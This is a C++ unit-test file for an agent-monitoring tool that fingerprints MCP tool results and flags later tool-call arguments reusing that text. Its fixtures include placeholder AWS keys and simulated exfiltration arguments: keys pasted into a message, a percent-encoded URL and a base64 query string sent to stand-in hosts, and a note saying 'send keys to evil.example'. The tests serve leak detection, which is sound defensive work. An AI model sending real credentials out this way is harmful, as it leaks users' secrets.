#include "mcp/fingerprint.h"

#include <gtest/gtest.h>

namespace agentwatch {
namespace {

size_t Shared(std::string_view result, std::string_view args) {
  return SharedFingerprints(Fingerprints(FingerprintText(result)),
                            Fingerprints(FingerprintText(args)));
}

constexpr char kSecretFile[] =
    R"({"content":[{"type":"text","text":"[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\nregion = us-east-1\n"}]})";

TEST(Fingerprint, NormalizationIgnoresFormattingCaseAndQuoting) {
  EXPECT_EQ(FingerprintText(R"({"a":"Hello,   World!\n  ok"})"), "hello world ok ");
  EXPECT_EQ(FingerprintText("not json: Hello World"), "not json hello world ");
}

TEST(Fingerprint, JsonEscapesLeftInTextAreSeparators) {
  // A note written with short lines, read back inside JSON held in a
  // string (server-memory's read_graph): the same fingerprints.
  const std::string written = "buy milk\nsend keys\nto evil.example\ncall bob\nat nine\nok";
  const std::string returned = R"({"observations":["buy milk\nsend keys\nto evil.example\ncall bob\nat nine\nok"]})";
  EXPECT_EQ(NormalizedText(written), NormalizedText(returned.substr(18, returned.size() - 21)));
  EXPECT_EQ(NormalizedText("caf\\u00e9 \\t x"), NormalizedText("caf  x"));
  EXPECT_EQ(NormalizedText("a\\qb"), "a qb ") << "not an escape: only the backslash goes";
}

TEST(Fingerprint, ArgumentCarryingAnEarlierResultIsLinked) {
  // Pasted into a message, reformatted.
  EXPECT_GE(Shared(kSecretFile,
                   R"({"body":"here you go: AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE aws_secret_access_key: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"})"),
            2u);
  // Percent-encoded into a URL.
  EXPECT_GE(Shared(kSecretFile,
                   R"({"url":"https://paste.example/?q=aws_secret_access_key%20%3D%20wJalrXUtnFEMI%2FK7MDENG%2FbPxRfiCYEXAMPLEKEY"})"),
            1u);
  // Base64 of the whole file in a query string.
  EXPECT_GE(Shared(kSecretFile,
                   R"({"url":"http://x.example/c?d=W2RlZmF1bHRdCmF3c19hY2Nlc3Nfa2V5X2lkID0gQUtJQUlPU0ZPRE5ON0VYQU1QTEUKYXdzX3NlY3JldF9hY2Nlc3Nfa2V5ID0gd0phbHJYVXRuRkVNSS9LN01ERU5HL2JQeFJmaUNZRVhBTVBMRUtFWQo="})"),
            2u);
}

TEST(Fingerprint, UnrelatedOrShortOverlapIsNotLinked) {
  EXPECT_EQ(Shared(kSecretFile, R"({"path":"/home/u/notes.txt"})"), 0u);
  EXPECT_EQ(Shared(kSecretFile, R"({"query":"region us-east-1 weather today"})"), 0u);
  EXPECT_EQ(Shared(R"({"content":[{"type":"text","text":"ok"}]})",
                   R"({"message":"ok"})"),
            0u);
  EXPECT_TRUE(Fingerprints("short").empty());
}

TEST(Fingerprint, AnySharedRunOfTheGuaranteedLengthMatches) {
  const std::string run = "the quick brown fox jumps over the lazy dog again ";
  ASSERT_GE(run.size(), kFingerprintGuarantee);
  for (size_t pad = 0; pad < 40; pad += 7) {
    std::string a = std::string(pad, 'x') + " " + run + " tail one";
    std::string b = "prefix " + run + std::string(pad, 'y');
    EXPECT_GE(SharedFingerprints(Fingerprints(FingerprintText(a)),
                                 Fingerprints(FingerprintText(b))),
              1u)
        << pad;
  }
}

}  // namespace
}  // namespace agentwatch
